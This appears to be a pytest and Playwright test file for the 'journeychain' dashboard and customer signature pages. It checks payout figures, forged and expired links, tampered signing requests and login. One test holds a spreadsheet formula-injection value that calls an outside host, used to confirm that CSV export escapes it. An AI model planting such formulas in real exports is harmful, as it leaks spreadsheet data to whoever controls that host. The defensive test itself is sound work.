"""The two web pages in a real browser (Debian's Chromium, driven by Playwright, headless):
the operations dashboard over the demo's journeys, and the customer's page confirming and
disputing by signature. Screenshots of both go to reports/."""

from __future__ import annotations

import json
import os
import shutil
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("playwright")
uvicorn = pytest.importorskip("uvicorn")
from eth_account import Account  # noqa: E402
from eth_account.messages import encode_typed_data  # noqa: E402
from fastapi import FastAPI  # noqa: E402
from fastapi.testclient import TestClient  # noqa: E402
from playwright.sync_api import expect, sync_playwright  # noqa: E402

from journeychain.chain import free_port  # noqa: E402
from journeychain.demo import DAY, SCENARIOS, network  # noqa: E402
from journeychain.errors import LinkError  # noqa: E402
from journeychain.timeline import timelines  # noqa: E402
from journeychain.vault import Vault  # noqa: E402
from journeychain.web.links import CustomerLinks  # noqa: E402
from journeychain.web.routes import web_router  # noqa: E402
from journeychain.web.serve import demo_records  # noqa: E402
from journeychain.web.source import WebSource  # noqa: E402

CHROMIUM = "/usr/bin/chromium"
REPORTS = Path(__file__).resolve().parent.parent / "reports"
# CI installs Chromium (`make browser`): there a missing browser fails the tests, never skips them
pytestmark = pytest.mark.skipif(
    not shutil.which(CHROMIUM) and not os.environ.get("CI"), reason="Debian's chromium is not installed"
)


class World:
    """The demo's five journeys, plus two waiting for their customer and one overdue lead,
    served by the pages on a local port."""

    def __init__(self, chain, crew, url: str, source: WebSource, links: CustomerLinks):
        self.chain, self.crew, self.url, self.source, self.links = chain, crew, url, source, links

    def link(self, reference: str, key: bool = False, valid: int = DAY) -> str:
        jid = self.crew.journeys[reference]
        token = self.links.issue(jid, int(time.time()) + valid)
        fragment = f"#key=0x{self.crew.customers[reference].key.key.hex()}" if key else ""
        return f"{self.url}/c/{token}{fragment}"


def _walk_to_customer(crew, ref: str) -> None:
    crew.to_booking(ref, crew.rep_a, "call booked")
    crew.book(ref, crew.rep_a)
    crew.onboard_and_deliver(ref)


@pytest.fixture(scope="module")
def world():
    with network() as (chain, crew):
        for ref, scenario in SCENARIOS:
            scenario(crew, ref, lambda: None)
        for ref in ("OPP-2001", "OPP-2002", "OPP-2004", "OPP-2005"):
            _walk_to_customer(crew, ref)
        crew.open("OPP-2003", assignee=crew.marketing)
        crew.qualify("OPP-2003", crew.rep_b)
        crew.past_deadline("OPP-2003", margin=2 * DAY)  # overdue by two days, not yet flagged

        source = WebSource(
            crew.relayer.client, demo_records(crew), crew.names(), vault=lambda: Vault(crew.vault.path)
        )
        links = CustomerLinks(os.urandom(32), str(crew.deployment.key))
        app = FastAPI()
        app.include_router(web_router(source, links, poll=0.3))
        port = free_port()
        server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        deadline = time.monotonic() + 20
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        assert server.started, "the pages' server did not start"
        try:
            yield World(chain, crew, f"http://127.0.0.1:{port}", source, links)
        finally:
            server.should_exit = True
            thread.join(10)
            source.close()


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as p:
        b = p.chromium.launch(
            executable_path=CHROMIUM, headless=True, args=["--no-sandbox", "--disable-background-networking"]
        )
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    p = context.new_page()
    errors: list[str] = []
    p.on("pageerror", lambda e: errors.append(str(e)))
    yield p
    context.close()
    assert not errors, errors


def _org_ids(crew) -> dict[str, int]:
    return {o["name"]: o["org"] for o in crew.admin.client.organisations()}


def test_the_dashboard_shows_breaches_and_payouts_per_organisation_as_the_chain_counts_them(world, page):
    page.goto(f"{world.url}/dashboard")
    expect(page.locator("#orgs tbody tr").first).to_be_visible()
    rows = {
        r.locator("th").inner_text(): [c.inner_text() for c in r.locator("td").all()]
        for r in page.locator("#orgs tbody tr").all()
    }
    crew = world.crew
    breaches_seen = 0
    for name, org in _org_ids(crew).items():
        members = [m.address for m in crew.members.values() if m.org == name]
        # breaches recorded against the organisation or any of its participants, as the engine counts
        on_chain = crew.engine.functions.organisationBreachCount(org).call()
        on_chain += sum(crew.engine.functions.breachCount(a).call() for a in members)
        shown = int(rows[name][3]) if name in rows else 0
        assert shown == on_chain, name
        breaches_seen += shown
        paid = sum(_paid(world, a) for a in members)
        if name in rows:
            assert rows[name][7] == f"{paid // 10**18:,}.{paid % 10**18 // 10**16:02d} JIT", name
    assert breaches_seen >= 2  # the demo's breached lead and its expired journey at least
    # the same figures as `journey report --no-index`: an index of its own, folded from the chain
    from journeychain.index import Index

    with Index.open("sqlite://", crew.deployment) as fresh:
        fresh.sync(world.chain, confirmations=0)
        report = fresh.report(group_by="organisation")
    assert {r["name"] for r in report} == set(rows)
    for r in report:
        shown = rows[r["name"]]
        assert [int(shown[0]), int(shown[1]), int(shown[3])] == [r["journeys"], r["steps"], r["breaches"]]
        paid, lost = r["payouts"], r["penalties"]
        assert shown[7] == f"{paid // 10**18:,}.{paid % 10**18 // 10**16:02d} JIT", r["name"]
        assert shown[6] == f"{lost // 10**18:,}.{lost % 10**18 // 10**16:02d} JIT", r["name"]
    assert page.title() == "journeychain: operations"
    expect(page.locator("#ontime")).to_be_visible()
    REPORTS.mkdir(exist_ok=True)
    page.screenshot(path=str(REPORTS / "dashboard.png"), full_page=True)


def test_the_overdue_lead_comes_first_with_who_is_responsible_and_how_late(world, page):
    page.goto(f"{world.url}/dashboard")
    first = page.locator("#journeys tbody tr").first
    expect(first).to_contain_text("OPP-2003")
    expect(first).to_contain_text("overdue")
    expect(first).to_contain_text("late by")
    expect(first).to_contain_text("Sales rep B")
    waiting = page.locator("#journeys tbody tr", has_text="OPP-2002")
    expect(waiting).to_contain_text("the customer")
    # the customer is no organisation: its own step is counted per step only
    expect(page.locator("#orgs tbody")).not_to_contain_text("no organisation")
    expect(page.locator("#steps tbody")).to_contain_text("value_confirmed")


def test_the_dashboard_updates_without_a_reload_when_a_breach_is_flagged(world, page):
    page.goto(f"{world.url}/dashboard")
    first = page.locator("#journeys tbody tr").first
    expect(first).to_contain_text("OPP-2003")
    before = int(first.locator("td").nth(5).inner_text())
    loads = int(page.evaluate("document.body.dataset.loaded || 0"))
    world.crew.relayer.client.flag_breach("OPP-2003")
    expect(first.locator("td").nth(5)).to_have_text(str(before + 1), timeout=15_000)
    assert int(page.evaluate("document.body.dataset.loaded")) > loads  # refreshed in place
    assert page.evaluate("performance.getEntriesByType('navigation').length") == 1  # no reload


def test_the_csv_export_has_the_tables_the_page_shows(world):
    client = TestClient(_app(world))
    r = client.get("/api/web/compliance.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    lines = r.text.splitlines()
    assert lines[0].startswith("kind,name,journeys,steps,on_time,on_time_rate,breaches,median_seconds")
    orgs = {line.split(",")[1] for line in lines if line.startswith("organisation,")}
    assert {"Sales", "Device supplier", "Marketing"} <= orgs
    # a date range after everything was opened holds no journey
    later = client.get("/api/web/compliance", params={"since": str(world.chain.now() + DAY)}).json()
    assert later["organisations"] == [] and later["steps"] == []
    assert client.get("/api/web/compliance", params={"since": "yesterday"}).status_code == 400


def test_a_journey_page_shows_its_links_and_that_they_match_the_rolling_hash(world, page):
    jid = "0x" + world.crew.journeys["OPP-1001"].hex()
    page.goto(f"{world.url}/dashboard/journey/{jid}")
    expect(page.locator("#check")).to_contain_text("matches the chain's rolling hash")
    expect(page.locator("#steps tbody tr")).to_have_count(6)
    expect(page.locator("#steps tbody")).to_contain_text("deal_booked")
    expect(page.locator("#entries")).to_contain_text("value confirmed")
    data = world.source.journey(world.crew.journeys["OPP-1001"])
    assert data["hash_check"]["matches"] and data["hash_check"]["chain"] == data["hash_check"]["rebuilt"]


def test_the_customer_confirms_through_an_injected_wallet_and_the_chain_shows_it(world, page):
    crew = world.crew
    customer = crew.customers["OPP-2001"]
    signed: list[str] = []

    def sign(account: str, typed: str) -> str:
        assert account.lower() == customer.key.address.lower()
        signed.append(account)
        message = encode_typed_data(full_message=json.loads(typed))
        return "0x" + Account.sign_message(message, customer.key.key).signature.hex()

    page.expose_function("jcTestSign", sign)
    page.add_init_script(
        f"""window.ethereum = {{ request: async ({{ method, params }}) => {{
            if (method === "eth_requestAccounts") return ["{customer.key.address}"];
            if (method === "eth_signTypedData_v4") return window.jcTestSign(params[0], params[1]);
            throw new Error("unsupported " + method); }} }};"""
    )
    page.goto(world.link("OPP-2001"))
    assert page.title() == "Your journey"
    expect(page.locator("#links li")).to_have_count(6)
    expect(page.locator("#confirm")).to_be_visible()
    expect(page.locator("#links li").last).to_contain_text("you")
    expect(page.locator("#rate-box")).to_be_hidden()  # nothing to rate before value is confirmed
    page.screenshot(path=str(REPORTS / "customer.png"), full_page=True)
    page.locator("#confirm").click()
    expect(page.locator("#message")).to_contain_text("you confirmed value was delivered", timeout=20_000)
    assert signed
    state = crew.client.journey("OPP-2001")
    assert state.status == "value delivered"
    assert _paid(world, crew.rep_a.address) > 0


def test_a_dispute_from_the_page_signed_with_the_links_key_holds_the_payouts(world, page):
    crew = world.crew
    page.goto(world.link("OPP-2002", key=True))
    assert "key=" not in page.url  # the key leaves the address bar at once
    expect(page.locator("#dispute")).to_be_visible()
    page.locator("#dispute-step").select_option("4")
    page.locator("#dispute-reason").fill("the device arrived broken")
    page.locator("#dispute").click()
    expect(page.locator("#message")).to_contain_text("Your dispute is recorded", timeout=20_000)
    state = crew.client.journey("OPP-2002")
    assert state.status == "disputed"
    tl = world.source._timeline(crew.journeys["OPP-2002"])
    assert not tl.payouts  # nobody is paid while the dispute is open
    # the reason's text went to the vault, a salted commitment to the chain
    kept = crew.vault.statements(crew.deployment.key, crew.journeys["OPP-2002"])
    assert [s["text"] for s in kept if s["kind"] == "dispute_reason"] == ["the device arrived broken"]


def test_an_expired_or_wrong_link_is_refused(world, page):
    expired = world.link("OPP-2001", valid=-1)
    page.goto(expired)
    expect(page.locator("#message")).to_contain_text("this link has expired")
    expect(page.locator("#act")).to_be_hidden()
    good = world.link("OPP-2001")
    token = good.rsplit("/", 1)[1]
    forged = token[:-2] + ("AA" if token[-2:] != "AA" else "BB")
    page.goto(f"{world.url}/c/{forged}")
    expect(page.locator("#message")).to_contain_text("not a journeychain customer link")
    client = TestClient(_app(world))
    assert client.get(f"/api/customer/{forged}").status_code == 404
    assert client.get(f"/api/customer/{expired.rsplit('/', 1)[1]}").status_code == 410
    assert client.post(f"/api/customer/{forged}/request", json={"action": "confirm"}).status_code == 404


def test_a_link_shows_its_journey_only_and_no_personal_data():
    links = CustomerLinks(b"k" * 32)
    a, b = b"\x01" * 32, b"\x02" * 32
    token = links.issue(a, 2_000)
    assert links.open(token, 1_999).journey == a
    with pytest.raises(LinkError, match="expired"):
        links.open(token, 2_000)
    with pytest.raises(LinkError, match="not a journeychain customer link"):
        CustomerLinks(b"x" * 32).open(token, 1_000)  # another service's secret
    raw = token.encode()
    # a token re-pointed at another journey, or given a longer life, fails its tag
    import base64

    body = bytearray(base64.urlsafe_b64decode(raw + b"=" * (-len(raw) % 4)))
    for i in (0, 39):
        changed = bytearray(body)
        changed[i] ^= 1
        forged = base64.urlsafe_b64encode(bytes(changed)).decode().rstrip("=")
        with pytest.raises(LinkError):
            links.open(forged, 1_000)
    assert links.issue(b, 2_000) != token


def test_the_customer_api_answers_for_its_own_journey_only(world):
    client = TestClient(_app(world))
    token = world.link("OPP-2002").rsplit("/", 1)[1]
    view = client.get(f"/api/customer/{token}").json()
    assert view["journey"] == "0x" + world.crew.journeys["OPP-2002"].hex()
    text = json.dumps(view)
    for c in world.crew.customers.values():
        assert c.key.address not in text and "example" not in text  # no signer, no profile
    # a request for another journey's signature cannot be relayed through this link
    other = world.link("OPP-1001").rsplit("/", 1)[1]
    foreign = world.source.customer_request(world.crew.journeys["OPP-1001"], "rate", 4, 5, "")
    r = client.post(
        f"/api/customer/{token}/submit", json={"request": foreign.as_dict(), "signature": "0x" + "11" * 65}
    )
    assert r.status_code == 422 and "signs another" in r.json()["detail"]
    assert client.post(f"/api/customer/{other}/request", json={"action": "steal"}).status_code == 400


def _paid(world, account: str) -> int:
    """What the payouts credited `account`, over every journey (from the payout events)."""
    c = world.crew.client
    return sum(
        tl.payouts.get(account, 0) for tl in timelines(c.chain.w3, c.engine, c.voice, c.deployment.block)
    )


def _app(world) -> FastAPI:
    app = FastAPI()
    app.include_router(web_router(world.source, world.links))
    return app


def test_journey_demo_serve_leaves_the_dashboard_open_on_the_demos_journeys(tmp_path):
    import re
    import signal
    import subprocess
    import sys

    import requests

    port = free_port()
    env = {**os.environ, "JOURNEY_HOME": str(tmp_path / "home"), "PYTHONUNBUFFERED": "1"}
    env.pop("JOURNEY_RPC", None)
    journey = Path(sys.executable).with_name("journey")
    child = subprocess.Popen(
        [str(journey), "demo", "--serve", "--port", str(port), "--out", str(tmp_path / "demo.json")],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=env,
        cwd=tmp_path,
    )
    lines: list[str] = []
    try:
        assert child.stdout is not None
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            line = child.stdout.readline()
            if not line:
                break
            lines.append(line)
            if "OPP-1006, the customer's page" in line:
                break
        out = "".join(lines)
        assert f"http://127.0.0.1:{port}/dashboard" in out, out
        rows = requests.get(f"http://127.0.0.1:{port}/api/web/journeys", timeout=10).json()["journeys"]
        assert sorted(r["reference"] for r in rows) == [f"OPP-100{i}" for i in range(1, 7)]
        assert requests.get(f"http://127.0.0.1:{port}/dashboard", timeout=10).status_code == 200
        link = re.search(r"OPP-1001, the customer's page: (\S+)", out).group(1)
        token = link.split("/c/", 1)[1].split("#", 1)[0]
        view = requests.get(f"http://127.0.0.1:{port}/api/customer/{token}", timeout=10).json()
        assert view["status"] == "value delivered" and view["confirmed"]
        assert (tmp_path / "demo.json").exists()  # the report is written before the pages open
    finally:
        child.send_signal(signal.SIGTERM)
        rest, _ = child.communicate(timeout=30)
    assert child.returncode == 0, "".join(lines) + rest
    assert "stopped: the demo chain is gone" in rest


def test_the_pages_fit_a_phone_and_work_from_the_keyboard(world, browser):
    context = browser.new_context(viewport={"width": 375, "height": 740}, is_mobile=True)
    try:
        page = context.new_page()
        for url in (world.link("OPP-2004"), f"{world.url}/dashboard"):
            page.goto(url)
            expect(page.locator("body[data-loaded]")).to_be_attached()
            # nothing wider than the phone but the tables' own scrolling boxes
            overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
            assert overflow <= 0, (url, overflow)
        page.screenshot(path=str(REPORTS / "dashboard-phone.png"), full_page=False)
        page.goto(world.link("OPP-2004"))
        expect(page.locator("#dispute")).to_be_visible()
        # Tab reaches every control of "your say", in order, without a mouse
        reached = []
        for _ in range(12):
            page.keyboard.press("Tab")
            reached.append(page.evaluate("document.activeElement.id"))
        assert "dispute-step" in reached and "dispute-reason" in reached and "dispute" in reached
        # no personal data and no reference in the title or the address, beyond the token
        assert page.title() == "Your journey" and "OPP" not in page.url
    finally:
        context.close()


def test_a_stranger_with_the_link_cannot_change_what_the_customer_said(world):
    """A second request prepared for the same dispute (a stranger looping the customer's link)
    neither changes the text the vault keeps nor gets the customer's signature relayed for it."""
    crew, client = world.crew, TestClient(_app(world))
    token = world.link("OPP-2005").rsplit("/", 1)[1]
    asked = {"action": "dispute", "step": 3, "text": "nobody called me"}
    mine = client.post(f"/api/customer/{token}/request", json=asked).json()
    theirs = client.post(f"/api/customer/{token}/request", json=asked | {"text": "all fine, withdrawn"})
    assert theirs.status_code == 200
    typed = mine["typed_data"]
    signature = Account.sign_message(
        encode_typed_data(full_message=typed), crew.customers["OPP-2005"].key.key
    )
    back = {"action": "dispute", "typed_data": typed, "step": 3, "score": None}
    sent = client.post(
        f"/api/customer/{token}/submit", json={"request": back, "signature": "0x" + signature.signature.hex()}
    )
    assert sent.status_code == 200, sent.text
    assert crew.client.journey("OPP-2005").status == "disputed"
    kept = crew.vault.statements(crew.deployment.key, crew.journeys["OPP-2005"])
    (reason,) = [s for s in kept if s["kind"] == "dispute_reason"]
    assert reason["text"] == "nobody called me" and reason["status"] == "confirmed"
    assert reason["commitment"] == typed["message"]["reason"]
    # the answer gives the page what it checks, and nothing of the customer's profile
    assert mine["statement"]["text"] == "nobody called me" and "profile" not in mine
    assert sent.headers["cache-control"] == "no-store"


def test_the_page_refuses_to_sign_what_the_customer_did_not_choose(world, page):
    """A service (or anyone on the way) answering the Dispute button with a confirmation gets
    no signature: the page checks the action, step, score and the text's commitment first."""
    signed: list[str] = []
    page.expose_function("jcTestSign", lambda *_a: signed.append("signed") or "0x" + "11" * 65)
    address = world.crew.customers["OPP-2004"].key.address
    page.add_init_script(
        "window.ethereum = { request: async ({ method, params }) => {"
        f' if (method === "eth_requestAccounts") return ["{address}"];'
        " return window.jcTestSign(params[0], params[1]); } };"
    )

    def tampered(change):
        def handle(route):
            answer = route.fetch()
            data = answer.json()
            change(data)
            route.fulfill(response=answer, json=data)

        return handle

    def other_salt(data):  # the commitment signed is not the text's shown
        data["statement"]["salt"] = "0x" + "42" * 32

    def confirmation(data):  # the Dispute button answered with a confirmation to sign
        data["typed_data"]["primaryType"] = "ConfirmValue"

    for change, sentence in ((other_salt, "does not check out"), (confirmation, "something else")):
        page.unroute("**/request")
        page.route("**/request", tampered(change))
        page.goto(world.link("OPP-2004"))
        page.locator("#dispute-step").select_option("3")
        page.locator("#dispute-reason").fill("the page shows this")
        page.locator("#dispute").click()
        expect(page.locator("#message")).to_contain_text(sentence, timeout=15_000)
        expect(page.locator("#message")).to_contain_text("not signed")
    assert not signed
    assert world.crew.client.journey("OPP-2004").status == "open"


def test_the_dashboard_needs_a_viewers_token_where_the_service_asks_for_one(world):
    app = FastAPI()
    app.include_router(web_router(world.source, world.links, viewer=lambda t: t == "viewer-token"))
    client = TestClient(app)
    assert client.get("/api/web/journeys").status_code == 401
    assert client.get("/api/web/journey/OPP-1001").status_code == 401
    assert client.get("/api/web/compliance.csv").status_code == 401
    assert client.get("/dashboard", follow_redirects=False).headers["location"] == "/dashboard/login"
    refused = client.post("/dashboard/login", data={"token": "guess"}, follow_redirects=False)
    assert refused.headers["location"] == "/dashboard/login?refused=1" and not client.cookies
    bearer = client.get("/api/web/journeys", headers={"Authorization": "Bearer viewer-token"})
    assert bearer.status_code == 200
    signed_in = client.post("/dashboard/login", data={"token": "viewer-token"}, follow_redirects=False)
    assert signed_in.status_code == 303 and "httponly" in signed_in.headers["set-cookie"].lower()
    assert client.get("/api/web/journeys").status_code == 200
    client.cookies.set("journeychain_dashboard", "forged")
    assert client.get("/api/web/journeys").status_code == 401
    # the customer's page needs its link, not a viewer
    token = world.link("OPP-1001").rsplit("/", 1)[1]
    assert TestClient(app).get(f"/api/customer/{token}").status_code == 200


def test_a_link_of_another_deployment_and_a_corrupt_secret_are_refused(tmp_path):
    secret = os.urandom(32)
    token = CustomerLinks(secret, "31337/0xaaaa").issue(b"\x05" * 32, 2**40)
    assert CustomerLinks(secret, "31337/0xaaaa").open(token, 1).journey == b"\x05" * 32
    with pytest.raises(LinkError, match="not a journeychain customer link"):
        CustomerLinks(secret, "11155111/0xaaaa").open(token, 1)
    path = tmp_path / "link-secret"
    first = CustomerLinks.load("x", path)
    assert CustomerLinks.load("x", path).open(first.issue(b"\x01" * 32, 2**40), 1)  # kept, not replaced
    path.write_text("not hex\n")
    with pytest.raises(LinkError, match="is not a customer-link secret"):
        CustomerLinks.load("x", path)
    assert path.read_text() == "not hex\n"  # left as it is


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text():
    from journeychain.web.source import csv_cell

    assert csv_cell('=HYPERLINK("http://x/?"&B2)') == '\'=HYPERLINK("http://x/?"&B2)'
    assert csv_cell("+1") == "'+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("Device supplier") == "Device supplier" and csv_cell(3) == 3


def test_a_dead_node_is_a_503_with_a_sentence_not_a_crash():
    import requests

    class Gone:
        def version(self):
            raise requests.exceptions.ConnectionError("refused")

        def now(self):
            raise requests.exceptions.ConnectionError("refused")

        def journeys(self):
            raise AssertionError("not reached")

    app = FastAPI()
    app.include_router(web_router(Gone(), CustomerLinks(b"k" * 32)))  # type: ignore[arg-type]
    r = TestClient(app).get("/api/web/journeys")
    assert r.status_code == 503 and "did not answer" in r.json()["detail"]
